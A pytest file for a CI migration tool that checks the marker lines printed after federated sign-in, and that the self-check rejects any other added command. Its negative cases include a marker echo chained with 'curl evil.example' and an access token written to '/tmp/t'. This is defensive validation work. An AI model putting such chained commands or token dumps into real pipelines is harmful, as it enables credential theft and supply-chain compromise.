"""The marker the rewritten step prints for `verify` (issue 16 §3): on every rewrite pattern the
marker comes right after the federated sign-in, the self-check accepts it, and nothing else changes."""

from __future__ import annotations

import pytest
from helpers.ci import dedent, run
from helpers.ci_rewrite_cases import CASES

from migrate.ci.emit import MARKER, MARKER_CONFIGURED


@pytest.mark.parametrize("name", sorted(CASES))
def test_marker_follows_each_federated_sign_in(name: str) -> None:
    before = dedent(CASES[name][0])
    plain = run(before)
    marked = run(before, verify_marker=True)
    assert marked.status == plain.status, marked.reasons
    if plain.status != "rewritten":
        return
    added = [line for line in marked.text.splitlines() if line not in plain.text.splitlines()]
    assert added and all(MARKER in line or MARKER_CONFIGURED in line for line in added), added
    lines = marked.text.splitlines()
    for i, line in enumerate(lines):
        if MARKER in line and "docker login -u oauth2accesstoken" in lines[i - 1]:
            # no gcloud: the registry accepted the federated access token the exchange minted
            assert line.strip() in (f'- echo "{MARKER}"', f'- \'echo "{MARKER}"\'', f'echo "{MARKER}"')
        elif MARKER in line:  # after a gcloud login: a token is minted first
            assert "auth print-access-token > /dev/null &&" in line
            assert "auth login --cred-file" in lines[i - 1]


def test_the_self_check_still_catches_a_non_marker_addition() -> None:
    """Only the exact marker shapes are accepted as authentication lines: an echo of something else
    (or a marker glued to another command) is a change beyond authentication."""
    from migrate.ci.acceptance import _FEDERATION

    def accepted(text: str) -> bool:
        return any(p.match(text) for p in _FEDERATION)

    assert accepted(f'gcloud auth print-access-token > /dev/null && echo "{MARKER}"')
    assert accepted(f'echo "{MARKER_CONFIGURED}"')
    assert not accepted('echo "wif-migrate: federated sign-in ok" && curl evil.example')
    assert not accepted(f'gcloud auth print-access-token > /tmp/t && echo "{MARKER}"')
